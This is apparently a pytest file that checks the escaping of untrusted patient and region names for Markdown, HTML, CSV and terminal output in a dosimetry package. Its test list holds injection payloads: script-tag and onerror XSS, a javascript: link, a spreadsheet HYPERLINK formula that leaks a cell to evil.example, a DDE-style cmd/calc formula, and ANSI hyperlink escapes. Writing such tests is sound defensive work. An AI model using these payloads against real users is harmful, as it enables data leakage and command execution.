"""Escaping of untrusted text (ROI, patient and series names) per output format (issue #15 §5).

Each function gets the nasty inputs of the issue: HTML, a newline that starts a Markdown
heading, a spreadsheet formula, ANSI escape sequences and Unicode bidi overrides. Where a
real parser is available (a CommonMark renderer, the csv module, the HTML parser) the
escaped text is parsed back and checked for what it must not contain.
"""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dosimetry._text import csv_cell, escape_html, escape_markdown, terminal

from .conftest import fuzz_settings

NASTY = [
    "<script>alert('x')</script>",
    '<img src=x onerror="alert(1)">',
    "Liver\n# Injected heading",
    "Liver\r\n## Injected\r\n| a | b |",
    "kidney | 99 Gy |",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
    "\x1b[31mRED\x1b[0m normal",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x1b]0;window title\x07text",
    "\x9b2J cleared",  # 8-bit CSI
    "abc\u202etxt.exe",  # right-to-left override
    "\u2066isolate\u2069 and \u200fmark",
    "**bold** _it_ `code` [link](javascript:alert(1)) ![img](x.png)",
    "    indented code",
    "- item",
    "1. item",
    "> quote",
    "---",
    "a\x00b\x07c\x08d\x7f",
    "line\u2028separator\u2029paragraph\x85next",
]
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def _controls(s: str) -> list[str]:
    return [c for c in s if (ord(c) < 0x20 and c not in "\t\n") or 0x7F <= ord(c) < 0xA0]


# ----------------------------------------------------------------------------- markdown
@pytest.mark.parametrize("text", NASTY)
def test_markdown_is_one_inert_line(text):
    md = escape_markdown(text)
    assert "\n" not in md and "\r" not in md
    assert "<" not in md and ">" not in md  # no raw HTML, no autolink brackets
    assert not any(c in md for c in BIDI) and not _controls(md)
    for ch in "*_`[]|!~#":  # every markup character is escaped
        assert all(md[i - 1] == "\\" for i, c in enumerate(md) if c == ch)
    assert md[:1] not in ("-", "+", "=", ">", " ")


@pytest.mark.parametrize("text", NASTY)
def test_markdown_rendered_by_a_commonmark_parser_has_no_markup(text):
    mistune = pytest.importorskip("mistune")
    render = mistune.create_markdown(escape=False, plugins=["table", "strikethrough"])
    html = render(escape_markdown(text)).strip()
    # one paragraph, nothing but text inside (no tag besides <p>, no <script>, no <h1>)
    assert html.startswith("<p>") and html.endswith("</p>"), html
    inner = html[3:-4]
    assert "<" not in inner, html


def test_markdown_keeps_ordinary_text_readable():
    assert escape_markdown("Lu-177: 3.2 Gy (95 %), liver") == "Lu-177: 3.2 Gy (95 %), liver"
    assert escape_markdown("a & b") == "a &amp; b"


# ----------------------------------------------------------------------------- html
class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):  # type: ignore[no-untyped-def]
        self.tags.append(tag)

    def handle_data(self, data):  # type: ignore[no-untyped-def]
        self.text.append(data)


@pytest.mark.parametrize("text", NASTY)
def test_html_escaped_text_parses_back_to_the_text(text):
    h = escape_html(text)
    p = _Collect()
    p.feed(f'<td title="{h}">{h}</td>')
    p.close()
    assert p.tags == ["td"]  # no tag injected, attribute not broken out of
    kept = "".join(c for c in text if c not in BIDI)
    kept = "".join("\n" if c in "\x0b\x0c\x85\u2028\u2029" else c for c in kept)
    expected = "".join(c for c in kept if c in "\t\n\r" or not _controls(c))
    assert "".join(p.text) == expected


# ----------------------------------------------------------------------------- csv
@pytest.mark.parametrize("text", NASTY)
def test_csv_cell_never_starts_a_formula_and_stays_one_row(text):
    cell = csv_cell(text)
    buf = io.StringIO()
    csv.writer(buf).writerow(["name", cell, "1.5"])
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows == [["name", cell, "1.5"]]  # one row, three cells
    assert "\n" not in cell and "\r" not in cell and "\t" not in cell
    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\uff1d"))
    if text.lstrip(" \t\r").startswith(("=", "+", "-", "@", "\uff1d")):
        assert cell.startswith("'")


def test_csv_cell_leaves_plain_names_alone():
    assert csv_cell("kidney_left") == "kidney_left"
    assert csv_cell("Müller^Anna") == "Müller^Anna"


# ----------------------------------------------------------------------------- terminal
@pytest.mark.parametrize("text", NASTY)
def test_terminal_text_has_no_escape_or_control(text):
    t = terminal(text)
    assert "\x1b" not in t and "\x9b" not in t
    assert "\n" not in t and "\r" not in t
    assert not _controls(t) and not any(c in t for c in BIDI)


def test_terminal_removes_sequences_whole():
    assert terminal("\x1b[31mRED\x1b[0m normal") == "RED normal"
    assert terminal("\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\") == "link"
    assert terminal("\x1b]0;window title\x07text") == "text"
    assert terminal("abc\u202etxt.exe") == "abctxt.exe"


# ----------------------------------------------------------------------------- any text
@fuzz_settings()
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=60))
def test_fuzz_escapers_on_any_text(text):
    for f in (escape_markdown, escape_html, csv_cell, terminal):
        out = f(text)
        assert isinstance(out, str)
        assert not any(c in out for c in BIDI)
    assert "\n" not in escape_markdown(text) and "<" not in escape_markdown(text)
    assert "\x1b" not in terminal(text) and not _controls(terminal(text))
    assert not csv_cell(text).lstrip(" ").startswith(("=", "+", "-", "@"))
